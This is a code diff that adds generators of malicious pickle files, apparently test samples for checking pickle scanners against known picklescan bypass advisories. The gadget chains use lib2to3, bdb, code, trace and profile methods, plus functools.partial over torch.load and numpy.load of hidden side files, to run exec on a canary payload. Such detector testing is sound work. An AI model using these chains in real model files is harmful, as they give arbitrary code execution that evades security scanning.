@@ -136,3 +136,91 @@ def _append_plant(out: Path, c: Canary) -> None:
     state = pickle.NONE + pickle.EMPTY_DICT + sbu("append")
     state += stack_global("builtins", "exec") + pickle.SETITEM + pickle.TUPLE2
     _save(out, inst + state + pickle.BUILD + body(c.py) + pickle.APPEND)
+
+
+def _bound(kind: str):  # type: ignore[no-untyped-def]
+    """An instance whose unbound method runs code (the object is pickled normally)."""
+    import bdb
+    import code
+    import profile
+    import trace
+
+    return {
+        "bdb": (bdb.Bdb.run, bdb.Bdb()),
+        "interpreter": (code.InteractiveInterpreter.runcode, code.InteractiveInterpreter()),
+        "trace": (trace.Trace.runctx, trace.Trace(count=0, trace=0)),
+        "profile": (profile.Profile.runctx, profile.Profile()),
+    }[kind]
+
+
+@sample("chain-lib2to3-grammar-loads", "ghsa-picklescan-lib2to3")
+def _grammar_loads(out: Path, c: Canary) -> None:
+    from lib2to3.pgen2.grammar import Grammar
+
+    from _pk import dumps
+
+    out.write_bytes(dumps(Grammar.loads, Grammar(), pickle.dumps(_Call2(exec, c.py), protocol=2)))
+
+
+@sample("chain-lib2to3-make-label", "ghsa-picklescan-lib2to3")
+def _make_label(out: Path, c: Canary) -> None:
+    from lib2to3.pgen2.grammar import Grammar
+    from lib2to3.pgen2.pgen import ParserGenerator
+
+    from _pk import dumps
+
+    out.write_bytes(dumps(ParserGenerator.make_label, None, Grammar(), '""+' + c.py_expr))
+
+
+for _kind, _tech in (
+    ("bdb", "ghsa-picklescan-debuggers"),
+    ("interpreter", "ghsa-picklescan-debuggers"),
+    ("trace", "ghsa-picklescan-debuggers"),
+    ("profile", "ghsa-picklescan-profile"),
+):
+
+    def _method(out: Path, c: Canary, kind: str = _kind) -> None:
+        from _pk import dumps
+
+        fn, inst = _bound(kind)
+        args = (inst, c.py) if kind in ("bdb", "interpreter") else (inst, c.py, {}, {})
+        out.write_bytes(dumps(fn, *args))
+
+    sample(f"chain-method-{_kind}", _tech)(_method)
+
+
+def _partial_call(fn: object, *args: object, **kw: object) -> bytes:
+    """fn(*args, **kw) written as pickle writes functools.partial, then called."""
+    import functools
+
+    raw = pickle.dumps(functools.partial(fn, *args, **kw), protocol=4)  # type: ignore[arg-type]
+    raw = raw[:2] + raw[11:] if raw[2:3] == pickle.FRAME else raw
+    return raw[2:-1] + pickle.EMPTY_TUPLE + R
+
+
+class _Call2:
+    def __init__(self, fn: object, arg: str) -> None:
+        self.fn, self.arg = fn, arg
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return self.fn, (self.arg,)
+
+
+@sample("chain-partial-torch-load-side-file", "nested-file-loader")
+def _partial_torch_load(out: Path, c: Canary) -> None:
+    import torch
+
+    side = out.with_name("shard-2.bin")
+    side.write_bytes(pickle.dumps(_Call2(exec, c.py), protocol=2))
+    _save(out, _partial_call(torch.load, str(side), weights_only=False))
+
+
+@sample("chain-numpy-load-side-file", "nested-file-loader")
+def _numpy_load(out: Path, c: Canary) -> None:
+    import numpy as np
+
+    side = out.with_name("vocab.npy")
+    arr = np.empty(1, dtype=object)
+    arr[0] = _Call2(exec, c.py)
+    np.save(side, arr, allow_pickle=True)
+    _save(out, _partial_call(np.load, str(side), allow_pickle=True))
